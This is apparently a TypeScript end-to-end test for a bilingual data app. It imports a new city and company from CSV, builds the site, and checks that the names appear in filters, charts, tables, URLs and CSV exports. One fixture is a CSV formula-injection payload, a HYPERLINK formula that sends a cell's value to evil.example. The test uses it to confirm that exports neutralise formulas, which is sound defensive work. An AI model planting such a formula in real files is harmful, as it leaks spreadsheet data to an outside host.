import Papa from 'papaparse';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { CHROMIUM_FLAGS, startPreview } from '../../scripts/preview-server.mjs';
import {
  SCREENSHOT_DIR,
  describeBrowser,
  inject,
  scrollToChart,
  VIEWPORTS,
} from './support/browser';

/**
 * Issue 14's acceptance test, as a new maintainer would try it: a new article naming a city and a
 * company the app has never seen goes through the importer into a temporary copy of the data
 * (never src/data), passes data:check, is built with DATA_DIR, and then shows under its Chinese
 * and English names in the filters, charts, tables, URL and CSV exports.
 */

// Its own preview port beside the shared one (E2E_PORT), so other work trees' runs do not clash.
const PORT = Number(process.env.E2E_PORT ?? 4173) + 50;

const ARTICLE =
  'Testville had a strong 2025. The city built 1.5 million vehicles, ranking second among cities nationwide. ' +
  'Its largest maker, Test Motors, sold 800,000 vehicles in 2025, a record for the company.';
const RANK_EXCERPT = 'The city built 1.5 million vehicles, ranking second among cities nationwide.';
const SALES_EXCERPT =
  'Its largest maker, Test Motors, sold 800,000 vehicles in 2025, a record for the company.';

// Text from outside that a spreadsheet would run as a formula (CSV formula injection).
const HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

const ENTITIES_CSV = `id,type,name.en,name.zh
testville,city,Testville,测试市
testmotors,company,Test Motors,测试汽车
`;
const SOURCES_CSV = `id,title.en,title.zh,outlet.en,outlet.zh,date,language,file
test-2026-testville,Testville's record year,测试市的创纪录之年,Test Daily,测试日报,2026-02,en,testville.txt
`;
const HEADER =
  'id,entity,metric,period,value,unit,kind,qualifier,peerSet,basis,yoyPercent,source,figure,excerpt,note.en,note.zh,issue,conflict';
// Saved as a spreadsheet would: BOM and CRLF.
const FIGURES_CSV = `\uFEFF${[
  HEADER,
  `,testville,production_rank,2025,2,rank,rank,,cities,,,test-2026-testville,ranking second among cities,"${RANK_EXCERPT}",,,,`,
  `,testmotors,vehicle_sales,2025,800000,vehicles,actual,,,,-3.2,test-2026-testville,"800,000","${SALES_EXCERPT}","${HOSTILE_NOTE.replaceAll('"', '""')}","${HOSTILE_NOTE.replaceAll('"', '""')}",,`,
].join('\r\n')}\r\n`;
// One good row and one with a value no one can read: nothing may be written.
const BAD_CSV = [
  HEADER,
  `testmotors-vehicle-sales-2025-b,testmotors,vehicle_sales,2025,800000,vehicles,actual,,,,,test-2026-testville,"800,000","${SALES_EXCERPT}",,,,`,
  `,testville,vehicle_production,2025,1.5 million,vehicles,actual,,,,,test-2026-testville,1.5 million,"${RANK_EXCERPT}",,,,`,
].join('\n');

const SEEDS = '../shared/seeds';
// The importer's generated ids: entity, metric, period, and the kind where it is not 'actual'.
const RANK_ID = 'testville-production-rank-2025-rank';
const SALES_ID = 'testmotors-vehicle-sales-2025';

/** Every file in a folder with its content hash: "changes no file" made checkable. */
const snapshot = (dir: string) =>
  Object.fromEntries(
    readdirSync(dir)
      .sort()
      .map((f) => [
        f,
        createHash('sha256')
          .update(readFileSync(join(dir, f)))
          .digest('hex'),
      ]),
  );

const node = (script: string, args: string[]) =>
  spawnSync(process.execPath, [script, ...args], { encoding: 'utf8' });

describeBrowser('a maintainer adds a new city and company (issue 14)', () => {
  let tmp = '';
  let browser: Browser;
  let stop = () => {};
  let base = '';
  const realData = snapshot('src/data');

  beforeAll(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'cq-maintainer-'));
    const data = join(tmp, 'data');
    const articles = join(tmp, 'articles');
    cpSync('src/data', data, { recursive: true, filter: (f) => !/\.ts$/.test(f) });
    // The word-for-word check reads every article: the real ones (where this machine has them,
    // as CI does) plus the test article.
    mkdirSync(articles);
    if (existsSync(SEEDS)) cpSync(SEEDS, articles, { recursive: true });
    writeFileSync(join(articles, 'testville.txt'), ARTICLE);
    for (const [name, text] of Object.entries({
      'entities.csv': ENTITIES_CSV,
      'sources.csv': SOURCES_CSV,
      'figures.csv': FIGURES_CSV,
      'bad.csv': BAD_CSV,
    }))
      writeFileSync(join(tmp, name), text);

    // One command brings in the figures, the two entities and the source.
    const verbatim = existsSync(SEEDS) ? ['--sources', articles] : [];
    const imported = node('scripts/data-import.mjs', [
      join(tmp, 'figures.csv'),
      '--entities',
      join(tmp, 'entities.csv'),
      '--sources-file',
      join(tmp, 'sources.csv'),
      '--data-dir',
      data,
      ...verbatim,
    ]);
    expect(imported.status, imported.stdout + imported.stderr).toBe(0);
    const check = node('scripts/data-check.mjs', ['--data-dir', data, ...verbatim]);
    expect(check.status, check.stdout + check.stderr).toBe(0);
    expect(check.stdout).toContain('All checks passed.');

    execFileSync(
      process.execPath,
      [
        'node_modules/vite/bin/vite.js',
        'build',
        '--outDir',
        join(tmp, 'dist'),
        '--logLevel',
        'error',
      ],
      // NODE_ENV: vitest's 'test' would make a development build (see base-path.e2e.ts).
      {
        env: { ...process.env, NODE_ENV: 'production', DATA_DIR: data },
        stdio: ['ignore', 'ignore', 'inherit'],
      },
    );
    ({ base, stop } = await startPreview(PORT, join(tmp, 'dist')));
    browser = await chromium.launch({
      executablePath: inject('chromiumPath') ?? '',
      args: [...CHROMIUM_FLAGS],
    });
  }, 120_000);

  afterAll(async () => {
    await (browser as Browser | undefined)?.close();
    stop();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  it('a CSV with a bad row is refused by line number and changes no file', () => {
    const data = join(tmp, 'data');
    const before = snapshot(data);
    const result = node('scripts/data-import.mjs', [join(tmp, 'bad.csv'), '--data-dir', data]);
    expect(result.status).toBe(1);
    expect(result.stdout + result.stderr).toMatch(/line 3\b[\s\S]*1\.5 million/);
    expect(snapshot(data)).toEqual(before);
  });

  async function open(path: string): Promise<{ page: Page; errors: string[] }> {
    const context = await browser.newContext({ viewport: VIEWPORTS.desktop, locale: 'en-US' });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await page.goto(`${base}${path}`);
    return { page, errors };
  }

  async function download(page: Page, panelId: string, label: string): Promise<string> {
    const panel = page.locator(`[data-panel=${panelId}]`);
    await panel.getByTestId('export-menu').locator('summary').click();
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      panel.getByRole('button', { name: label }).click(),
    ]);
    return readFileSync(await file.path()).toString('utf8');
  }

  const CASES = [
    {
      panel: 'rankings',
      param: 'cities',
      value: 'testville',
      id: RANK_ID,
      names: { en: 'Testville', zh: '测试市' },
    },
    {
      panel: 'companies',
      param: 'companies',
      value: 'testmotors',
      id: SALES_ID,
      names: { en: 'Test Motors', zh: '测试汽车' },
    },
  ] as const;
  const WORDS = {
    en: { table: 'Table', csv: 'Data (CSV)' },
    zh: { table: '表格', csv: '数据（CSV）' },
  } as const;

  for (const c of CASES) {
    for (const lang of ['zh', 'en'] as const) {
      it(`${c.panel}, ${lang}: ${c.names[lang]} in the filter, chart, table, URL and CSV`, async () => {
        const name = c.names[lang];
        const { page, errors } = await open(
          `/?${c.param}=${c.value}&lang=${lang}&panel=${c.panel}`,
        );
        const panel = page.locator(`[data-panel=${c.panel}]`);

        // The filter offers it under its name, ticked, and it is the only one ticked.
        const box = panel.getByRole('checkbox', { name, exact: true });
        expect(await box.isChecked()).toBe(true);
        expect(await panel.getByRole('checkbox', { checked: true }).count()).toBe(1);

        // The chart draws its figure as a mark, and names it in the legend.
        await scrollToChart(page, c.panel);
        const mark = panel.locator(`[data-point-id][data-figure-ids~="${c.id}"]`);
        await mark.first().waitFor();
        expect(await panel.getByTestId('chart-legend').innerText()).toContain(name);
        await panel.screenshot({ path: `${SCREENSHOT_DIR}/maintainer-${c.panel}-${lang}.png` });

        // The table lists it by name.
        await panel.getByRole('radio', { name: WORDS[lang].table }).check({ force: true });
        const row = panel.locator(`[data-testid=data-table] tr[data-figure-id="${c.id}"]`);
        expect(await row.innerText()).toContain(name);

        // The URL keeps the selection; the panel's CSV export carries the record and the name.
        const query = new URLSearchParams(await page.evaluate(() => window.location.search));
        expect(query.get(c.param)).toBe(c.value);
        const csv = await download(page, c.panel, WORDS[lang].csv);
        expect(csv).toContain(c.id);
        expect(csv).toContain(name);
        if (c.panel === 'companies' && lang === 'en') {
          // The imported note reaches the export as text, never as a formula; the negative
          // growth rate stays a number.
          const row = Papa.parse<string[]>(csv.slice(1)).data.find((r) => r[0] === c.id) ?? [];
          expect(row[14]).toBe(`'${HOSTILE_NOTE}`);
          expect(row[8]).toBe('-3.2');
        }
        expect(errors).toEqual([]);
        await page.context().close();
      });
    }
  }

  it('never touched the real data files', () => {
    expect(snapshot('src/data')).toEqual(realData);
  });
});
